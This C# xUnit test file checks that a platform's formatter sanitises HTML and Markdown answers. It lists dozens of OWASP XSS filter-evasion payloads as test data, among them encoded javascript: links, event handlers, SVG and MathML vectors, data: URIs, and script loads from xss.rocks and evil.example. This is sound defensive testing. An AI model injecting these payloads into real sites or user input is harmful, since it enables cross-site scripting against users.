using Platform.Core.Jobs;

namespace Platform.Core.Tests.Jobs;

/// <summary>
/// The OWASP XSS filter-evasion classics, as HTML answers and as Markdown answers: whatever the model writes, the stored
/// rendering is inert (see <see cref="InertHtml"/>).
/// </summary>
public sealed class XssEvasionTests
{
    public static readonly TheoryData<string> Payloads =
    [
        // Script in attributes and event handlers, in odd case and with odd separators.
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<img src=x onerror=alert(1)>",
        "<p OnMouseOver=\"alert(1)\" oNcLiCk=alert(2)>x</p>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
        "<a href=\"https://ok.example/\"onmouseover=\"alert(1)\">x</a>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>x",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input onfocus=alert(1) autofocus>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<table><td background=\"javascript:alert(1)\">x</td></table>",
        // javascript: spelled with entities, whitespace, tabs, newlines and control characters.
        "<a href=\"&#106;avascript&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"jav\tascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        // SVG and MathML.
        "<svg/onload=alert('XSS')>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
        // Documents inside documents, redirects and base URLs.
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        // data: URIs.
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        // Style: expression() and url(javascript:).
        "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
        "<div style=\"x:expr/**/ession(alert(1))\">x</div>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>x",
        // Unclosed tags, broken tags and nested-quote tricks.
        "<script>alert(1)",
        "<img src=x onerror=alert(1)//",
        "<a href=\"javascript:alert(1)\"",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<a title='\"><script>alert(1)</script>'>x</a>",
        "<a href=\"https://ok.example/\" title=\"\"\" onclick=alert(1)//\">x</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<scr<script>ipt>alert(1)</script>",
        "<template><img src=x onerror=alert(1)></template>",
    ];

    public static readonly TheoryData<string> MarkdownPayloads =
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#09;script:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "![x](javascript:alert(1))",
        "![x](https://tracker.example/p.gif)",
        "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
        "[<img src=x onerror=alert(1)>](https://ok.example)",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "``` onerror=alert(1) x\ncode\n```",
        "# <svg onload=alert(1)>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Html_answers_are_stored_inert(string payload)
    {
        InertHtml.Check(OutputFormatter.Format(OutputFormat.Html, payload).Html!);
        InertHtml.Check(OutputFormatter.Format(OutputFormat.Html, $"<p>before</p>{payload}<p>after</p>").Html!);
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    [MemberData(nameof(MarkdownPayloads))]
    public void Markdown_answers_are_stored_inert(string payload)
    {
        InertHtml.Check(OutputFormatter.Format(OutputFormat.Markdown, payload).Html!);
        InertHtml.Check(OutputFormatter.Format(OutputFormat.Markdown, $"Some **text**\n\n{payload}\n\n- a [link](https://ok.example)").Html!);
    }

    [Fact]
    public void Safe_links_survive_the_same_checks()
    {
        var html = OutputFormatter.Format(OutputFormat.Markdown, "[a](https://ok.example/x?a=1&b=2) and [b](mailto:ann@example.com)").Html!;
        InertHtml.Check(html);
        Assert.Contains("<a href=\"https://ok.example/x?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">a</a>", html);
        Assert.Contains("<a href=\"mailto:ann@example.com\" rel=\"nofollow noopener noreferrer\">b</a>", html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<p onclick=\"alert(1)\">x</p>")]
    [InlineData("<div style=\"color:red\">x</div>")]
    [InlineData("<svg></svg>")]
    [InlineData("<a href=\"/relative\">x</a>")]
    public void The_check_itself_refuses_what_must_not_be_stored(string html)
    {
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => InertHtml.Check(html));
    }
}
